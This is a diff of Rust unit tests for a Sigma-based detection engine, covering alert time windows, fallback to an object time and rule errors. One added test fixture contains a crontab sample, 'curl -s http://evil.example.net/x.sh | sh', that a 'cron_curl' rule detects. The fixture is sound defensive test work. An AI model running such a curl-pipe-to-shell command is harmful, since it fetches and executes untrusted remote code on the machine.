@@ -5,6 +5,7 @@ use rsigma_eval::Engine;
 use serde_json::{json, Value};
 
 use super::*;
+use crate::alert::{Alert, TimeFrom};
 use crate::config::Config;
 use crate::derive::Derived;
 use crate::event::{Action, Event, Indicators, Kind, SourceRef};
@@ -330,46 +331,147 @@ fn alert_id_is_stable_across_runs_and_forms() {
     assert_eq!(a.id, "01d0584c645d04a2");
 }
 
+fn crontab_rule(name: &str, id: u32, window: &str) -> String {
+    rule_yaml(name, id, "  sel:\n    query: crontab\n  condition: sel", "")
+        .replace("window: 1h", &format!("window: {window}"))
+}
+
+fn without_time(mut e: Event) -> Event {
+    e.time = None;
+    e.unix_time = None;
+    e
+}
+
+#[test]
+fn event_without_time_alerts_in_the_object_time_window() {
+    // The object's time is 13:23:20, in the window that starts at 13:00.
+    let object_time = T0 + 5000;
+    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(object_time);
+    let out = det.observe(without_time(event("crontab", json!({"command": "x"}), T0)));
+    assert_eq!(out.len(), 1);
+    assert_eq!(out[0].outcome, Outcome::Counted);
+    let report = det.finish();
+    assert_eq!(report.stats.rule_errors, 0);
+    assert_eq!(report.stats.matches, 1);
+    assert_eq!(report.stats.matches_on_object_time, 1);
+    let a = &report.alerts[0];
+    assert_eq!(a.time_from, TimeFrom::Object);
+    assert_eq!(a.dedup.window_start, "2024-05-01T13:00:00Z");
+    assert_eq!(a.first_seen, "2024-05-01T13:23:20Z");
+    assert_eq!(a.last_seen, a.first_seen);
+    assert_eq!(
+        a.id,
+        crate::alert::alert_id("cron", &["\"h1\"".into()], T0 + 3600)
+    );
+    // Written as a lowercase word, and read back.
+    let json = serde_json::to_value(a).unwrap();
+    assert_eq!(json["time_from"], "object");
+    assert_eq!(serde_json::from_value::<Alert>(json).unwrap(), *a);
+}
+
+#[test]
+fn a_detector_without_an_object_time_uses_its_creation_time() {
+    let before = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs() as i64;
+    let mut det = detector(&[crontab_rule("cron", 1, "1s")]);
+    let after = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs() as i64;
+    assert!((before..=after).contains(&det.object_time()));
+    det.observe(without_time(event("crontab", json!({"command": "x"}), T0)));
+    let a = det.finish().alerts.remove(0);
+    let placed = crate::derive::parse_rfc3339(&a.dedup.window_start).unwrap();
+    assert!(
+        (before..=after).contains(&placed),
+        "{}",
+        a.dedup.window_start
+    );
+    assert_eq!(a.time_from, TimeFrom::Object);
+}
+
+#[test]
+fn event_and_object_times_in_one_alert_are_mixed() {
+    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0 + 5000);
+    det.observe(event("crontab", json!({"command": "x"}), T0 + 3700));
+    det.observe(without_time(event("crontab", json!({"command": "x"}), T0)));
+    // Its own time puts this one in the window before: an alert of its own.
+    det.observe(event("crontab", json!({"command": "x"}), T0 + 10));
+    let report = det.finish();
+    assert_eq!(report.stats.matches, 3);
+    assert_eq!(report.stats.matches_on_object_time, 1);
+    assert_eq!(report.alerts.len(), 2);
+    let (early, mixed) = (&report.alerts[0], &report.alerts[1]);
+    assert_eq!(early.time_from, TimeFrom::Event);
+    assert_eq!(early.count, 1);
+    assert_eq!(mixed.time_from, TimeFrom::Mixed);
+    assert_eq!(mixed.count, 2);
+    assert_eq!(mixed.first_seen, "2024-05-01T13:01:40Z");
+    assert_eq!(mixed.last_seen, "2024-05-01T13:23:20Z");
+    assert_eq!(serde_json::to_value(mixed).unwrap()["time_from"], "mixed");
+}
+
+#[test]
+fn times_no_alert_could_state_fall_back_to_the_object_time() {
+    // Before 1970, milliseconds read as seconds (the year 56,000), the extremes.
+    for t in [-1, 1_714_564_800_000, i64::MIN, i64::MAX] {
+        let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0 + 5000);
+        let out = det.observe(event("crontab", json!({"command": "x"}), t));
+        assert_eq!(out[0].outcome, Outcome::Counted, "{t}");
+        let a = det.finish().alerts.remove(0);
+        assert_eq!(a.time_from, TimeFrom::Object, "{t}");
+        assert_eq!(a.dedup.window_start, "2024-05-01T13:00:00Z", "{t}");
+    }
+    // The last second RFC 3339 can write is still the event's own.
+    let last = 253_402_300_799;
+    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0);
+    det.observe(event("crontab", json!({"command": "x"}), last));
+    let a = det.finish().alerts.remove(0);
+    assert_eq!(a.time_from, TimeFrom::Event);
+    assert_eq!(a.first_seen, "9999-12-31T23:59:59Z");
+}
+
+#[test]
+fn an_rfc3339_time_alone_places_the_event() {
+    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0 + 5000);
+    let mut e = without_time(event("crontab", json!({"command": "x"}), T0));
+    e.time = Some("2024-05-01T12:00:30Z".into());
+    det.observe(e);
+    let a = det.finish().alerts.remove(0);
+    assert_eq!(a.time_from, TimeFrom::Event);
+    assert_eq!(a.first_seen, "2024-05-01T12:00:30Z");
+}
+
 #[test]
 fn rule_error_does_not_stop_other_rules() {
-    // A hostile unixTime near i64::MIN has no representable 1h window start, but a 1s
-    // window is fine: the first rule errors on the event, the second still alerts.
-    let hourly = rule_yaml(
-        "hourly",
-        1,
-        "  sel:\n    query: crontab\n  condition: sel",
-        "",
-    );
-    let per_second = rule_yaml(
-        "per_second",
-        2,
-        "  sel:\n    query: crontab\n  condition: sel",
-        "",
-    )
-    .replace("window: 1h", "window: 1s");
-    let mut det = detector(&[hourly, per_second]);
-    let out = det.observe(event("crontab", json!({"command": "x"}), i64::MIN));
+    // Only an object time no window can hold is a rule error, and only for a match whose
+    // event has no usable time of its own. Just before 1970 is such a time.
+    let mut det = detector(&[
+        crontab_rule("hourly", 1, "1h"),
+        crontab_rule("daily", 2, "1d"),
+    ])
+    .with_object_time(-1);
+    let out = det.observe(without_time(event("crontab", json!({"command": "x"}), T0)));
     assert_eq!(out.len(), 2);
-    assert!(
-        matches!(&out[0].outcome, Outcome::Error(m) if m.contains("out of range")),
-        "{out:?}"
-    );
-    assert_eq!(out[1].outcome, Outcome::Counted);
-    // An event without any time cannot be windowed by either rule.
-    let mut no_time = event("crontab", json!({"command": "x"}), T0);
-    no_time.time = None;
-    no_time.unix_time = None;
-    det.observe(no_time);
+    for o in &out {
+        assert!(
+            matches!(&o.outcome, Outcome::Error(m) if m.contains("object time -1 is out of range")),
+            "{out:?}"
+        );
+    }
     // Later events are unaffected.
     det.observe(event("crontab", json!({"command": "x"}), T0));
     let report = det.finish();
-    assert_eq!(report.stats.events, 3);
-    assert_eq!(report.stats.rule_errors, 3);
-    assert_eq!(report.stats.rule_errors_by_rule["hourly"], 2);
-    assert_eq!(report.stats.rule_errors_by_rule["per_second"], 1);
-    assert_eq!(report.stats.error_samples.len(), 3);
+    assert_eq!(report.stats.events, 2);
+    assert_eq!(report.stats.rule_errors, 2);
+    assert_eq!(report.stats.rule_errors_by_rule["hourly"], 1);
+    assert_eq!(report.stats.rule_errors_by_rule["daily"], 1);
+    assert_eq!(report.stats.error_samples.len(), 2);
     let names: Vec<&str> = report.alerts.iter().map(|a| a.rule.name.as_str()).collect();
-    assert_eq!(names, ["per_second", "hourly", "per_second"]);
+    assert_eq!(names, ["daily", "hourly"]);
+    assert!(report.alerts.iter().all(|a| a.time_from == TimeFrom::Event));
 }
 
 #[test]
@@ -523,6 +625,44 @@ negative:
             .any(|m| m.contains("negative #1") && m.contains("fired")),
         "{f:?}"
     );
+}
+
+#[test]
+fn a_rule_test_event_without_time_fires() {
+    let rules = Arc::new(set(&[rule_yaml(
+        "cron_curl",
+        1,
+        "  sel:\n    query: crontab\n    columns.command|contains: curl\n  condition: sel",
+        "",
+    )]));
+    let file = r#"
+positive:
+  - query: crontab
+    columns: {command: "curl -s http://evil.example.net/x.sh | sh"}
+    time: null
+negative:
+  - query: crontab
+    columns: {command: "/usr/sbin/logrotate"}
+    time: ~
+"#;
+    let report = testing::run(&rules, None, &[("tests/cron_curl.yml".into(), file.into())]);
+    assert!(report.passed(), "{:?}", report.rules[0].failures);
+    assert_eq!(
+        (report.rules[0].positives, report.rules[0].negatives),
+        (1, 1)
+    );
+
+    // `time: null` is no time, an absent `time` the default one.
+    #[derive(serde::Deserialize)]
+    struct File {
+        positive: Vec<testing::TestEvent>,
+    }
+    let no_time: File = yaml_serde::from_str(file).unwrap();
+    let e = no_time.positive[0].to_event("e").unwrap();
+    assert_eq!((e.unix_time, e.time), (None, None));
+    let default: File = yaml_serde::from_str(&file.replace("    time: null\n", "")).unwrap();
+    let e = default.positive[0].to_event("e").unwrap();
+    assert_eq!(e.unix_time, Some(testing::DEFAULT_TEST_TIME));
 }
 
 #[test]
